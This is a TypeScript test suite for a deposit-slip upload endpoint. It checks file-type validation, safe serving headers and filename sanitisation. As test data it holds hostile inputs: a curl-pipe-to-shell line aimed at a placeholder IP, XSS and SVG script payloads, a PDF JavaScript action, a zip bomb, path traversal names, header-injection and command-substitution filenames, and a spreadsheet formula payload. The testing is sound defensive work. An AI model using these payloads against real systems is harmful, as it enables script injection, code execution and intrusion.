import fs from 'node:fs';
import os from 'node:os';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { limits } from '../../src/contract/limits';
import { paths } from '../../src/contract/paths';
import { slipNamePattern } from '../../src/contract/slips';
import type { BooksClient } from '../support/books-client';
import { realPng, slipBytes } from '../support/slip-files';
import { RawClient } from '../support/raw-http';
import { TestServer } from '../support/test-server';

let server: TestServer;
let admin: BooksClient;
let cookie: string;
beforeAll(async () => {
  server = await TestServer.start();
  ({ client: admin, slipCookie: cookie } = await server.signIn('admin'));
});
afterAll(() => server.stop());

const newestSlip = async () => {
  const [row] = await server.rows<{ name: string; original_name: string }>(
    'select name, original_name from slips order by uploaded_at desc limit 1',
  );
  return row!;
};
const countSlips = async () => (await server.rows('select from slips')).length;
const open = (slip: string) => server.anonymous.get(`${paths.files}/${slip}`, {}, { cookie });

const page = '<html><script>alert(localStorage.token)</script></html>';
const drawing = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const script = '#!/bin/sh\ncurl http://192.0.2.1/ | sh\n';
const pdfProgram = '%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF';
/** Ten megabytes of nothing in ten kilobytes. */
const bomb = Buffer.concat([
  Buffer.from('504b030414000000080000000000', 'hex'),
  deflateRawSync(Buffer.alloc(10 * 1024 * 1024)),
]);
const zip = Buffer.concat([
  Buffer.from('PK\u0003\u0004'),
  Buffer.alloc(40),
  Buffer.from('PK\u0005\u0006'),
  Buffer.alloc(18),
]);
const bytesOf = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
const [jpg, png, pdf] = [slipBytes('jpg'), slipBytes('png'), slipBytes('pdf')];

/** What is served as what it is; all else is bytes. */
const shownAs: Readonly<Record<string, string>> = {
  jpg: 'image/jpeg',
  jpeg: 'image/jpeg',
  png: 'image/png',
  pdf: 'application/pdf',
};

/** A file, and what becomes of it: taken is 201, of a wrong name or content 415, empty 400. */
const corpus: [what: string, name: string, bytes: Buffer, status: 201 | 400 | 415][] = [
  ['a picture', 'a.png', realPng, 201],
  ['a picture in capitals', 'A.JPG', jpg, 201],
  ['a picture with the long ending', 'a.jpeg', jpg, 201],
  ['a document', 'a.pdf', pdf, 201],
  ['two endings, the last of them true', 'a.html.png', realPng, 201],
  ['a picture that is a zip too', 'a.jpg', bytesOf(jpg, zip), 201],
  ['a picture that is a page too', 'a.jpg', bytesOf(jpg.subarray(0, 8), page), 201],
  ['a picture with a page in its text', 'a.png', bytesOf(realPng, page), 201],
  ['a picture with a drawing in it', 'a.png', bytesOf(realPng, drawing), 201],
  ['a picture with a shell script in it', 'a.jpg', bytesOf(jpg, script), 201],
  ['a document with a program', 'a.pdf', bytesOf(pdfProgram), 201],
  ['a document that is a page too', 'a.pdf', bytesOf('%PDF-1.4\n', page), 201],
  ['a document that is a zip too', 'a.pdf', bytesOf(pdf, zip), 201],
  ['the eight bytes of a picture and no more', 'a.png', png.subarray(0, 8), 201],
  ['seven bytes of a picture', 'a.png', png.subarray(0, 7), 415],
  ['three bytes of a picture', 'a.jpg', jpg.subarray(0, 3), 415],
  ['nothing', 'a.png', Buffer.alloc(0), 400],
  ['one byte', 'a.pdf', Buffer.alloc(1), 415],
  ['a page', 'a.html', bytesOf(page), 415],
  ['a page said to be a picture', 'a.png', bytesOf(page), 415],
  ['a page said to be a document', 'a.pdf', bytesOf(page), 415],
  ['a drawing', 'a.svg', bytesOf(drawing), 415],
  ['a packed drawing', 'a.svgz', gzipSync(drawing), 415],
  ['a drawing said to be a picture', 'a.jpg', bytesOf(drawing), 415],
  ['a page with a picture after it', 'a.png', bytesOf(page, realPng), 415],
  ['a picture after one space', 'a.png', bytesOf(' ', realPng), 415],
  ['a document after a byte order mark', 'a.pdf', bytesOf('\ufeff', pdf), 415],
  ['a GIF', 'a.gif', bytesOf('GIF89a', jpg), 201],
  ['a GIF said to be a picture we take', 'a.jpg', bytesOf('GIF89a', jpg), 415],
  ['a WebP', 'a.webp', bytesOf('RIFF0000WEBPVP8 '), 201],
  ['a TIFF said to be a JPG', 'a.jpg', bytesOf('II*\u0000', jpg), 415],
  ['a zip bomb', 'a.zip', bomb, 201],
  ['a zip bomb said to be a picture', 'a.png', bomb, 415],
  ['a packed page said to be a document', 'a.pdf', gzipSync(page), 415],
  ['an office document', 'a.docx', zip, 201],
  ['a program of Windows said to be a picture', 'a.jpg', bytesOf('MZ', jpg), 415],
  ['a program of Linux said to be a document', 'a.pdf', bytesOf('\u007fELF', pdf), 415],
  ['a picture that is called a program', 'a.png.exe', realPng, 415],
  ['a PNG said to be a JPG', 'a.jpg', png, 415],
  ['a JPG said to be a document', 'a.pdf', jpg, 415],
  ['a page said to be a text', 'a.txt', bytesOf(page), 201],
  ['a drawing said to be a table', 'a.csv', bytesOf(drawing), 201],
  ['a picture that nobody checks', 'a.heic', bytesOf(drawing), 201],
  ['one byte of a text', 'a.txt', Buffer.alloc(1), 201],
  ['nothing of a text', 'a.txt', Buffer.alloc(0), 400],
  ['an office document with macros', 'a.docm', zip, 415],
  ['a program whose ending is not shown', 'a.exe. ', bytesOf('MZ'), 415],
  ['a program read from right to left', 'a\u202efdp.exe', bytesOf('MZ'), 415],
  ['a shortcut', 'a.url', bytesOf('[InternetShortcut]\r\nURL=file://host/share'), 415],
  ['an image of a disk', 'a.iso', Buffer.alloc(64), 415],
  ['a document of no kind', 'a', pdf, 415],
];

describe('S29: the file', () => {
  it('S29: the corpus has fifty-one of them', () => {
    expect(corpus).toHaveLength(51);
  });

  it.each(corpus)('S29: %s (%s)', async (_what, name, bytes, status) => {
    const before = await countSlips();
    // Whatever the sender says it is.
    const file = new File([Uint8Array.from(bytes)], name, { type: 'text/html' });
    const answer = await admin.createDeposit({}, { slip: file });
    expect(answer.status).toBe(status);
    expect(server.uploads).toEqual([]);
    expect(await countSlips()).toBe(status === 201 ? before + 1 : before);
    if (status !== 201) return;
    const stored = await newestSlip();
    const served = await open(stored.name);
    expect(served.bytes.equals(bytes)).toBe(true);
    const extension = /\.(\w+)$/.exec(name)![1]!.toLowerCase();
    expect(served.headers.get('content-type')).toBe(shownAs[extension] ?? 'application/octet-stream');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toMatch(/; sandbox$/);
    const isPicture = shownAs[extension]?.startsWith('image/') ?? false;
    expect(served.headers.get('content-disposition')).toMatch(isPicture ? /^inline$/ : /^attachment; filename="a\./);
  });

  const signatures: [kind: string, head: string][] = [
    ['png', '89504e470d0a1a0a'],
    ['jpg', 'ffd8ff'],
    ['jpeg', 'ffd8ff'],
    ['pdf', '255044462d'],
  ];
  it.each(signatures)('S29: one wrong bit in any byte that says what a %s is', async (kind, head) => {
    const right = Buffer.concat([Buffer.from(head, 'hex'), Buffer.alloc(16)]);
    const statusOf = async (bytes: Buffer) =>
      (await admin.createDeposit({}, { slip: new File([Uint8Array.from(bytes)], `a.${kind}`) })).status;
    expect(await statusOf(right)).toBe(201);
    for (let place = 0; place < head.length / 2; place += 1) {
      const wrong = Buffer.from(right);
      wrong[place] = right[place]! ^ 1;
      expect([place, await statusOf(wrong)]).toEqual([place, 415]);
    }
  });

  it('S29: a large one that is refused at its first bytes does not hold up the next request of its connection', async () => {
    const client = new RawClient(server.origin, 1);
    const edge = 'e3b0c442';
    const field = (disposition: string) => `--${edge}\r\ncontent-disposition: form-data; ${disposition}\r\n\r\n`;
    const headers = { authorization: `Bearer ${admin.token!}` };
    const upload = Buffer.concat([
      Buffer.from(`${field('name="deposit"')}{}\r\n${field('name="slip"; filename="a.png"')}`),
      Buffer.alloc(limits.slipBytes - 1, 'no picture'),
      Buffer.from(`\r\n--${edge}--\r\n`),
    ]);
    const form = { ...headers, 'content-type': `multipart/form-data; boundary=${edge}` };
    for (let time = 0; time < 3; time += 1) {
      const request = { method: 'POST', address: paths.deposits.create, headers: form, body: upload };
      const refused = await client.send(request);
      const next = await client.send({ method: 'GET', address: paths.accounts.list, headers, body: null });
      expect([refused.status, next.status]).toEqual([415, 200]);
    }
    client.end();
  });

  it('S29: ten of nine megabytes at once take no memory for their size', async () => {
    const size = 9 * 1024 * 1024;
    const chunk = Buffer.alloc(64 * 1024);
    const edge = 'e3b0c442';
    const field = (disposition: string) => `--${edge}\r\ncontent-disposition: form-data; ${disposition}\r\n\r\n`;
    const json = JSON.stringify(server.sample.deposit());
    const upload = () => {
      const head = Buffer.from(
        `${field('name="deposit"')}${json}\r\n${field('name="slip"; filename="a.pdf"')}%PDF-1.4`,
      );
      let left = size;
      const body = new ReadableStream<Uint8Array>({
        start: (stream) => stream.enqueue(head),
        pull: (stream) => {
          if (left > 0) stream.enqueue(chunk);
          else stream.enqueue(Buffer.from(`\r\n--${edge}--\r\n`));
          if (left <= 0) stream.close();
          left -= chunk.length;
        },
      });
      const headers = { 'content-type': `multipart/form-data; boundary=${edge}` };
      return admin.call('POST', paths.deposits.create, { body, headers, duplex: 'half' } as RequestInit);
    };
    expect((await upload()).status).toBe(201);
    const before = process.memoryUsage().rss;
    const answers = await Promise.all(Array.from({ length: 10 }, upload));
    expect(answers.map(({ status }) => status)).toEqual(Array(10).fill(201));
    expect(process.memoryUsage().rss - before).toBeLessThan(64 * 1024 * 1024);
    expect(server.uploads).toEqual([]);
  });
});

describe('S30: the name of a file', () => {
  const mark = 'nm7q';
  /** As it stands in the header of its part. */
  const plain = (name: string) => `filename="${name}"`;
  const coded = (name: string) => `filename*=UTF-8''${encodeURIComponent(name)}`;
  const names: [header: string, status: 201 | 415][] = [
    [plain(`../../${mark}.png`), 201],
    [plain(`../../../../../../tmp/${mark}.png`), 201],
    [plain(`..\\\\..\\\\${mark}.png`), 201],
    [plain(`/tmp/${mark}.png`), 201],
    [plain(`C:\\\\${mark}.png`), 201],
    [plain(`\\\\\\\\host\\\\share\\\\${mark}.png`), 201],
    [plain(`file:///tmp/${mark}.png`), 201],
    [plain(`~/${mark}.png`), 201],
    [plain(`%2e%2e%2f${mark}.png`), 201],
    [plain(`..%c0%af${mark}.png`), 201],
    [coded(`../../${mark}.png`), 201],
    [coded(`${mark}\r\nset-cookie: a=b\r\n.png`), 201],
    [coded(`${mark}\u0000.html\u0000.png`), 201],
    [coded(`${mark}"; filename="b.html.png`), 201],
    [coded(`\u202egnp.${mark}.png`), 201],
    [coded(`${mark}\u2028\u2029\ufeff.png`), 201],
    [coded(`${mark}🏦квитанция支払い.png`), 201],
    [plain(`${'long'.repeat(75)}${mark}.png`), 201],
    [plain(`CON.png`), 201],
    [plain(`aux.${mark}.png`), 201],
    [plain(`.htaccess.png`), 201],
    [plain(`-rf ${mark}.png`), 201],
    [plain(`$(touch ${mark}).png`), 201],
    [plain(`\`touch ${mark}\`.png`), 201],
    [plain(`|touch ${mark};.png`), 201],
    [plain(`<img src=x onerror=alert(1)>${mark}.png`), 201],
    [plain(`=cmd|' /c calc'!A1${mark}.png`), 201],
    [plain(`${mark}.png/`), 415],
    [plain(`${mark}.png%00.html`), 415],
    [plain(`${mark}.png::$DATA`), 415],
  ];
  const places = [os.tmpdir(), process.cwd(), '/', os.homedir()];
  const marked = () => places.flatMap((place) => fs.readdirSync(place)).filter((name) => name.includes(mark));

  it('S30: thirty of them are tried', () => {
    expect(names).toHaveLength(30);
  });

  it.each(names)('S30: %s', async (header, status) => {
    const edge = 'e3b0c442';
    const json = JSON.stringify(server.sample.deposit());
    const body = Buffer.concat([
      Buffer.from(`--${edge}\r\ncontent-disposition: form-data; name="deposit"\r\n\r\n${json}\r\n`),
      Buffer.from(`--${edge}\r\ncontent-disposition: form-data; name="slip"; ${header}\r\n\r\n`),
      realPng,
      Buffer.from(`\r\n--${edge}--\r\n`),
    ]);
    const headers = { 'content-type': `multipart/form-data; boundary=${edge}` };
    const answer = await admin.call('POST', paths.deposits.create, { body, headers });
    expect(answer.status).toBe(status);
    expect([server.uploads, marked()]).toEqual([[], []]);
    if (status !== 201) return;
    const stored = await newestSlip();
    expect(stored.name).toMatch(new RegExp(slipNamePattern));
    expect(stored.original_name.length).toBeLessThanOrEqual(255);
    expect(Array.from(stored.original_name).filter((character) => character < ' ')).toEqual([]);
    const served = await open(stored.name);
    expect(served.headers.get('content-disposition')).toBe('inline');
    expect(served.headers.getSetCookie()).toEqual([]);
  });

  it.each([
    [
      'a"; filename="b.html\u0007x: y.pdf',
      'a_; filename=_b.htmlx: y.pdf',
      'a%22%3B%20filename%3D%22b.htmlx%3A%20y.pdf',
    ],
    ['Überweisung März.docx', '_berweisung M_rz.docx', '%C3%9Cberweisung%20M%C3%A4rz.docx'],
    ["it's (5*).xlsx", "it's (5*).xlsx", 'it%27s%20%285%2A%29.xlsx'],
    ['\u202excod.إيصال.odt', 'xcod._____.odt', 'xcod.%D8%A5%D9%8A%D8%B5%D8%A7%D9%84.odt'],
    ['100%41.txt', '100_41.txt', '100%2541.txt'],
  ])('S30: %j is in its header as text and nothing more', async (name, plainName, codedName) => {
    // As in the header of its part, since a browser changes quotes and line ends there.
    const edge = 'e3b0c442';
    const part = (disposition: string) => `--${edge}\r\ncontent-disposition: form-data; ${disposition}\r\n\r\n`;
    const body = Buffer.from(
      `${part('name="deposit"')}${JSON.stringify(server.sample.deposit())}\r\n${part(`name="slip"; ${coded(name)}`)}%PDF-1.4 and more\r\n--${edge}--\r\n`,
    );
    const headers = { 'content-type': `multipart/form-data; boundary=${edge}` };
    expect((await admin.call('POST', paths.deposits.create, { body, headers })).status).toBe(201);
    const served = await open((await newestSlip()).name);
    expect(served.headers.get('content-disposition')).toBe(
      `attachment; filename="${plainName}"; filename*=UTF-8''${codedName}`,
    );
    expect(served.headers.get('x')).toBeNull();
  });

  it('S30: that is missing does not lose what is in the file', async () => {
    const edge = 'e3b0c442';
    const part = (disposition: string) => `--${edge}\r\ncontent-disposition: form-data; ${disposition}\r\n\r\n`;
    const before = await countSlips();
    for (const [content, status] of [
      ['%PDF-1.4', 415],
      ['', 201],
    ] as const) {
      const body = Buffer.from(
        `${part('name="deposit"')}${JSON.stringify(server.sample.deposit())}\r\n${part('name="slip"; filename=""')}${content}\r\n--${edge}--\r\n`,
      );
      const headers = { 'content-type': `multipart/form-data; boundary=${edge}` };
      expect((await admin.call('POST', paths.deposits.create, { body, headers })).status).toBe(status);
    }
    expect(await countSlips()).toBe(before);
  });

  it('S30: that was cut off when it was kept does not hide its kind', async () => {
    await admin.createDeposit({}, { slip: new File([Uint8Array.from(pdf)], 'a.pdf') });
    const { name } = await newestSlip();
    await server.rows('update slips set original_name = $2 where name = $1', [name, 'x'.repeat(255)]);
    expect((await open(name)).headers.get('content-disposition')).toBe(
      `attachment; filename="${name}"; filename*=UTF-8''${name}`,
    );
  });
});
